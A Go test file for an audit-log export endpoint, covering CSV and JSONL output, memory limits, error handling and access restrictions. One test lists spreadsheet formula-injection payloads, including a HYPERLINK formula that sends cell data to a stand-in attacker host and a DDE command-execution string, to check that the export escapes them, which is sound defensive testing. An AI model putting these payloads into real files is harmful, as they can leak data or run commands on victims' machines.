package console_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"iter"
	"net/http"
	"net/http/httptest"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"github.com/hako-run/hako/host/frontend/console"
	"github.com/hako-run/hako/host/govern/audit"
)

func TestAuditExport(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	w.write(250, "first", "aki")
	w.write(7, "second", "mori")
	b := w.as(console.Viewer)

	lines := b.get("audit/export?format=jsonl&tool=first&text=FIRST")
	if kind := lines.header.Get("Content-Type"); kind != "application/x-ndjson; charset=utf-8" ||
		lines.header.Get("Content-Disposition") != `attachment; filename="hako-audit-20261120-120000.jsonl"` {
		t.Errorf("headers: %v", lines.header)
	}
	var numbers []string
	for line := range strings.Lines(lines.body) {
		var r struct{ Detail map[string]string }
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("%v in %s", err, line)
		}
		numbers = append(numbers, r.Detail["number"])
	}
	if len(numbers) != 250 || numbers[0] != "0" || numbers[249] != "249" {
		t.Errorf("%d lines, want 250, oldest first", len(numbers))
	}
	if got := sheetOf(t, b.get("audit/export?format=csv&user=mori")); len(got) != 7 || got[6]["name"] != "second" ||
		got[6]["detail"] != `{"number":"6"}` {
		t.Errorf("as CSV: %v", got)
	}
	if records := w.records(); strings.Count(records, "audit.export begun viewer 203.0.113.7") != 2 ||
		strings.Count(records, "audit.export ok viewer 203.0.113.7") != 2 {
		t.Errorf("the exports are not recorded: %s", records)
	}
	for _, query := range []string{"", "format=xlsx", "format=csv&limit=3", "format=csv&cursor=MQ", "format=csv&from=1"} {
		if got := b.get("audit/export?" + query); got.code() != "invalid" {
			t.Errorf("%s: %d %s", query, got.status, got.body)
		}
	}
}

// sheetOf parses an exported CSV file.
func sheetOf(t *testing.T, got *answer) (rows []map[string]string) {
	t.Helper()
	body, marked := strings.CutPrefix(got.body, "\ufeff")
	lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || !marked || len(lines) == 0 {
		t.Fatalf("%v, byte order mark %v: %.200s", err, marked, got.body)
	}
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, cell := range line {
			row[lines[0][i]] = cell
		}
		rows = append(rows, row)
	}
	return rows
}

// TestAuditExportFormulas: a caller's text does not become a formula of the spreadsheet that opens the file.
func TestAuditExportFormulas(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	texts := []string{`=HYPERLINK("http://evil.example/"&A1)`, "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1",
		"\n=1", "  =1", "＝1", "\ufeff=1", "|x", "%x", "x;=1", "x\r\n =1"}
	for _, text := range texts {
		e := &audit.Event{Type: audit.TypeCall, Outcome: "ok", Error: text,
			Subject: audit.Subject{User: text, ClientName: text}, Target: audit.Target{Plugin: "p", Name: text}}
		if err := w.log.Append(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	rows := sheetOf(t, w.as(console.Viewer).get("audit/export?format=csv&plugin=p"))
	if len(rows) != len(texts) {
		t.Fatalf("%d rows, want %d", len(rows), len(texts))
	}
	begins := regexp.MustCompile(`(^|[;\t\r\n])\s*[=＝]`) // a cell, also where a semicolon or a tab separates them
	for i, row := range rows {
		for _, column := range []string{"name", "user", "client", "error"} {
			if !strings.HasPrefix(row[column], "'") && i < len(texts)-2 || begins.MatchString(row[column]) {
				t.Errorf("%s of %q: %q may be run", column, texts[i], row[column])
			}
		}
	}
}

// endless is a log of so many large records, which are made when they are read.
type endless struct {
	*journal
	records int
	// read is called before each record.
	read func(i int) error
}

func (j endless) Last(context.Context, *audit.Query, int) ([]*audit.Entry, error) {
	return []*audit.Entry{{Seq: uint64(j.records)}}, nil
}

func (j endless) Read(_ context.Context, q *audit.Query) iter.Seq2[*audit.Entry, error] {
	text := strings.Repeat("x", 1<<20)
	return func(yield func(*audit.Entry, error) bool) {
		for i := range j.records {
			if err := j.read(i); err != nil {
				yield(nil, err)
				return
			}
			e := &audit.Entry{Seq: uint64(i + 1), Event: audit.Event{Type: audit.TypeCall, Error: text}}
			if e.Seq < q.Before && !yield(e, nil) {
				return
			}
		}
	}
}

// discarded counts what is written to it.
type discarded struct {
	http.ResponseWriter
	bytes int
}

func (d *discarded) Write(data []byte) (int, error) {
	d.bytes += len(data)
	return len(data), nil
}

// TestAuditExportMemory: an export holds a few records, however many there are.
func TestAuditExportMemory(t *testing.T) {
	const records = 128 // of a MiB each, twice what may be in memory
	var highest uint64
	read := func(i int) error {
		if i%64 == 0 {
			runtime.GC()
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			highest = max(highest, m.HeapAlloc)
		}
		return nil
	}
	w := newWorld(t, func(_ *world, o *console.Options) { o.Journal = endless{o.Journal.(*journal), records, read} })
	b := w.as(console.Viewer)
	var before runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	out := &discarded{ResponseWriter: httptest.NewRecorder()}
	b.handler.ServeHTTP(out, b.request("GET", "audit/export?format=csv", nil))
	if out.bytes < records<<20 || highest > before.HeapAlloc+64<<20 {
		t.Errorf("%d MiB sent, with %d MiB in memory", out.bytes>>20, (highest-before.HeapAlloc)>>20)
	}
}

// TestAuditExportBreaks: a client never takes a part of the log for the whole.
func TestAuditExportBreaks(t *testing.T) {
	t.Parallel()
	broken := errors.New("the log is broken")
	read := func(i int) error {
		if i == 3 {
			return broken
		}
		return nil
	}
	w := newWorld(t, func(_ *world, o *console.Options) { o.Journal = endless{o.Journal.(*journal), 10, read} })
	b := w.as(console.Viewer)
	defer func() {
		if cause, _ := recover().(error); !errors.Is(cause, http.ErrAbortHandler) {
			t.Errorf("the response ends as if it were whole: %v", cause)
		}
		if records := w.records(); !strings.Contains(records, "audit.export failed viewer") {
			t.Errorf("the failure is not recorded: %s", records)
		}
	}()
	b.get("audit/export?format=jsonl")
}

// TestAuditExportRefused: nothing is sent that cannot be recorded, to other sites, or to more clients than there may be.
func TestAuditExportRefused(t *testing.T) {
	t.Parallel()
	started, proceed := make(chan struct{}, 2), make(chan struct{})
	read := func(int) error {
		started <- struct{}{}
		<-proceed
		return nil
	}
	var log *journal
	w := newWorld(t, func(_ *world, o *console.Options) {
		log = o.Journal.(*journal)
		o.Journal = endless{log, 1, read}
	})
	b := w.as(console.Viewer)
	b.write(1, "first", "aki")
	foreign := b.do("GET", "audit/export?format=csv", nil, func(r *http.Request) { r.Header.Set("Sec-Fetch-Site", "cross-site") })
	if foreign.status != http.StatusForbidden {
		t.Errorf("another site: %d %s", foreign.status, foreign.body)
	}
	ended := make(chan int, 2)
	for range 2 {
		r := b.request("GET", "audit/export?format=csv", nil)
		go func() {
			out := httptest.NewRecorder()
			w.handler.ServeHTTP(out, r)
			ended <- out.Code
		}()
		<-started
	}
	if got := b.get("audit/export?format=csv"); got.code() != "limited" {
		t.Errorf("a third one: %d %.200s", got.status, got.body)
	}
	close(proceed)
	for range 2 {
		if code := <-ended; code != http.StatusOK {
			t.Errorf("status %d", code)
		}
	}
	log.fail = fmt.Errorf("disk full")
	if got := b.get("audit/export?format=csv"); got.code() != "unavailable" || strings.Contains(got.body, "xxx") {
		t.Errorf("unrecorded: %d %.200s", got.status, got.body)
	}
}
